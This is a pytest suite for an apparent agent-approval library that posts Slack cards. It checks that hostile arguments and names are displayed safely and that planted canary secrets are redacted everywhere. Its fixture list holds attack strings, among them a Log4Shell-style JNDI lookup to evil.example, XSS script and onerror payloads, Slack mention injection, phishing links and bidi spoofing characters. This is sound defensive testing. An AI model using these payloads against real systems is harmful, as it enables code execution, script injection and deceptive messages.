"""Text from outside on a card: shown as it is, never obeyed, never cut in silence, and without its secrets."""

from __future__ import annotations

import json
import logging
import re

import agentsudo
import pytest
from agentsudo import Agent, sudo
from agentsudo.slack import SlackApproval
from workspace import Call, ScriptedServer, request_id, text_of

HOSTILE = {
    "everybody": "<!channel> <!here> <!everyone>",
    "a person": "<@U_BOB>",
    "a person in plain words": "@bob @channel @here",
    "a group": "<!subteam^S0123|@admins>",
    "a channel": "<#C_OPS>",
    "a link": "<https://evil.example|Approve>",
    "a bare link": "https://evil.example/?q=1 and www.evil.example and mailto:x@evil.example",
    "markup": "*bold* _italic_ ~strike~ `code` ```block``` > quote\n> quote\n• list",
    "a fake field": "\n*Scope*\nread:harmless\n\n*Function* noop",
    "escaped already": "&lt;!channel&gt; &amp;lt;",
    "a date": "<!date^0^{date}|today>",
    "emoji": ":white_check_mark: :lock: 🔐 ✅",
    "control characters": "a\x00b\x07c\x1b[31mred\x1b[0m\x7f\x85\r\n\t",
    "bidi": "amount=1\u202e000,000,1\u202c \u2066x\u2069 \u200f\u200e",
    "zero width": "pay\u200bpal \u200c\u200d\ufeff\u2060 \u00ad",
    "tags": "hi\U000e0041\U000e0042 \ufe0f\u3164\u115f",
    "separators": "a\u2028b\u2029c\u000bd\u000ce",
    "combining": "Z\u0351\u0352\u0357a\u0340l\u0341g\u0342o",
    "surrogates": "lone \ud800 and \udfff",
    "backticks": "``` `` ` ```",
    "formats": "%s %n %d {} {0} ${jndi:ldap://evil.example/x} \\u0041 \\n",
    "JSON": '{"type": "actions", "elements": []}',
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "long": "A" * 5_000,
    "long and wide": "😀" * 3_000,
    "spaces": " " * 500 + "x",
    "newlines": "\n" * 500 + "x",
}

INVISIBLE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u115f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\U000e0000-\U000e007f]"
)


def texts_of(value):
    """All texts of a message's blocks."""
    if isinstance(value, dict):
        return [
            text
            for key, item in value.items()
            for text in ([item] if key == "text" and isinstance(item, str) else texts_of(item))
        ]
    if isinstance(value, list):
        return [text for item in value for text in texts_of(item)]
    return []


def check(message, mentions=()):
    assert set(message["mentions"]) <= set(mentions), message["mentions"]
    # A bare address in the text for notifications may be clickable; it is always shown as itself.
    fallback = message["text"].replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    assert all(link in fallback for link in message["links"]) and "<http" not in message["text"], message["links"]
    texts = texts_of(message["sent_blocks"])
    for text in [*texts, message["text"]]:
        assert not INVISIBLE.search(text), repr(INVISIBLE.search(text))
    assert sum(map(len, texts)) <= 13_000 and len(message["sent_blocks"]) <= 50
    for block in message["sent_blocks"]:
        for field in block.get("fields", ()):
            assert "\n" not in field["text"]


def ask(slack, approval, call, answer="approve"):
    """Runs a call through its whole life and checks all that people saw of it."""
    card = slack.card()
    check(card)
    (reply,) = slack.wait_for_messages(1, kind="reply", timeout=30)
    check(reply)
    check(slack.message(slack.command("pending")["shown"]["ts"]))
    slack.press(answer, ts=card["ts"])
    if answer == "approve":
        call.result()
    else:
        call.refused("denied_by_person")
    check(slack.edited(card), mentions=["U_ALICE"])
    return card


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_arguments(slack, approval, refund, inside, name):
    hostile = HOSTILE[name]
    ask(slack, approval, Call(refund, hostile, **{"amount": {hostile: [hostile]}}))


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_names(slack, approval, ran, name, records):
    hostile = HOSTILE[name]
    try:
        agent = Agent(hostile.strip() or "x", [])
    except ValueError:
        agent = Agent("Bot", [])

    def work():
        ran.append(1)

    work.__name__ = work.__qualname__ = hostile
    try:
        guarded = sudo("refund:order", on_deny=approval.request_approval)(work)
    except ValueError:
        pytest.skip("no name for a function")
    with agent.start_session():
        ask(slack, approval, Call(guarded), "deny")
    assert ran == []
    for record in records():  # each is one line of JSON
        assert "\n" not in json.dumps(record, ensure_ascii=True)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_texts_to_the_low_level_call(slack, approval, inside, name):
    hostile = HOSTILE[name]
    context = {"function": hostile, "args": (hostile,), "kwargs": {hostile: hostile}}
    call = Call(approval.request_approval, inside, hostile or "s", context)
    card = slack.card()
    check(card)
    user = HOSTILE["everybody"] + hostile
    assert approval.approve(request_id(card), user) is True
    assert call.result() is True
    check(slack.edited(card))
    assert approval.approve(hostile) is False


def test_a_hundred_kilobytes_are_cut_and_the_cut_is_said(slack, approval, refund, inside, ran):
    order = "A-17 " + "x" * 100_000 + " the end"
    call = Call(refund, order, amount=7)
    card = ask(slack, approval, call)
    text = text_of(card)
    hidden = re.search(r"(\d+) characters of the arguments do not fit", text)
    assert hidden and 80_000 < int(hidden[1]) < 100_100 and re.search("SHA-256 of all of them", text)
    assert ran == [(order, 7)]


def test_many_arguments(slack, approval, refund, inside):
    card = ask(slack, approval, Call(refund, "A-17", **{f"argument_{n}": n for n in range(2_000)}))
    assert "do not fit" in text_of(card)


def test_what_is_shown_is_the_truth(slack, approval, refund, inside):
    """Values that look alike do not on the card."""
    shown = set()
    for number, order in enumerate(
        ["1", 1, 1.0, True, None, [1], {"a": 1}, b"1", "1 ", "\u0031\u200b", "l", "None"], start=1
    ):
        call = Call(refund, order)
        card = slack.cards(number)[-1]
        shown.add(card["rendered"].split("order = ")[1].splitlines()[0].strip(" │"))
        slack.press("deny", ts=card["ts"])
        call.refused("denied_by_person")
    assert len(shown) == 12, shown


# Secrets

SECRETS = {
    "a bot token": "xoxb-CANARY-123456789012-abcdefghijkl",
    "an app token": "xapp-1-CANARY-123456789012-abcdef0123456789",
    "a key of ours": "as_CANARY0123456789abcdef",
    "another key": "sk-CANARY0123456789abcdefghijklmnop",
    "a header": "Authorization: Bearer CANARY0123456789abcdef",
    "an assignment": "password=CANARY-hunter2 and more",
    "in a sentence": "use token: CANARY0123456789, please",
    "in an address": "https://user:CANARYpw@db.example/x",
    "a PEM": "-----BEGIN PRIVATE KEY-----\nCANARYMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcw\n-----END PRIVATE KEY-----",
    "a JWT": "eyJhbGciOiJIUzI1NiJ9.CANARYeyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
}


@pytest.fixture
def nothing_leaks(slack, tmp_path, caplog, inside):
    """At the end, no byte of a secret in anything that left the process."""
    caplog.set_level(logging.DEBUG)
    path = tmp_path / "audit.jsonl"
    agentsudo.configure_audit(path)
    events = []

    def keep(request):
        events.append(request["body"])
        return 200, {}, {}

    with ScriptedServer(keep) as telemetry:
        config = agentsudo.configure_cloud("as_key_of_telemetry", endpoint=telemetry.url, flush_interval=3600)
        yield
        config.flush()
        agentsudo.disable_cloud()
    agentsudo.configure_audit(None)
    assert events and path.stat().st_size > 0
    assert "CANARY" not in slack.everything()
    assert "CANARY" not in json.dumps([slack.messages(), slack.ephemerals()])
    assert "CANARY" not in caplog.text and b"CANARY" not in path.read_bytes() and b"CANARY" not in b"".join(events)


@pytest.mark.parametrize("name", SECRETS)
def test_secrets_in_values(slack, approval, refund, inside, nothing_leaks, name):
    secret = SECRETS[name]
    card = ask(slack, approval, Call(refund, secret, amount={"note": secret, "list": [secret]}, note=f"see {secret}"))
    assert "redacted" in text_of(card)


@pytest.mark.parametrize("name", SECRETS)
def test_secrets_in_names(slack, approval, ran, nothing_leaks, name):
    secret = " ".join(SECRETS[name].split())

    def work():
        ran.append(1)

    work.__name__ = work.__qualname__ = secret
    guarded = sudo("refund:order", on_deny=approval.request_approval)(work)
    with Agent(secret, []).start_session():
        call = Call(guarded)
        card = slack.card()
        slack.wait_for_messages(1, kind="reply", timeout=30)
        slack.command("pending")
        slack.press("deny")
        call.refused("denied_by_person")
        slack.edited(card)


KEYS = [
    "password",
    "db_password",
    "apiKey",
    "api_key",
    "API-KEY",
    "authorization",
    "cookie",
    "client_secret",
    "authToken",
    "passwd",
]


@pytest.mark.parametrize("key", KEYS)
def test_secrets_under_their_names(slack, approval, refund, inside, nothing_leaks, key):
    values = {key: "CANARY-plain-words", "nested": [{"deep": {key: ["CANARY-list", 7]}}]}
    card = ask(slack, approval, Call(refund, values, amount=1, **{key.replace("-", "_"): "CANARY-argument"}))
    assert "redacted" in text_of(card)


def test_two_secrets_differ_though_neither_is_shown(slack, approval, refund, inside):
    texts = []
    for number, secret in enumerate(["CANARY-one", "CANARY-two", "CANARY-one"], start=1):
        call = Call(refund, "A-17", password=secret)
        card = slack.cards(number)[-1]
        texts.append(card["rendered"].split("password")[1].splitlines()[0])
        slack.press("deny", ts=card["ts"])
        call.refused("denied_by_person")
    assert texts[0] == texts[2] != texts[1] and "CANARY" not in slack.everything()


def test_a_secret_that_changes_while_waiting_is_noticed(slack, refund, inside, ran):
    values = {"password": "CANARY-one"}
    call = Call(refund, values)
    slack.card()
    values["password"] = "CANARY-two"
    slack.press("approve")
    call.refused("args_changed")
    assert ran == []


def test_secrets_are_redacted_on_a_webhook_and_at_a_server_too(slack, guarded, inside, nothing_leaks):
    secrets = {"token": "CANARY-1", "note": SECRETS["a bot token"]}
    announcing = SlackApproval(webhook_url=slack.webhook_url)
    Call(guarded(announcing.request_approval), secrets).refused("notify_only")
    seen = []

    def deny(request):
        seen.append(request["body"])
        return 200, {}, {"id": "1", "status": "denied"}

    with ScriptedServer(deny) as server:
        asking = SlackApproval(cloud_api_key="as_key_0123456789", cloud_url=server.url, poll_interval=0.02)
        Call(guarded(asking.request_approval), secrets, password="CANARY-2").refused("denied_by_person")
    assert seen and b"CANARY" not in b"".join(seen)
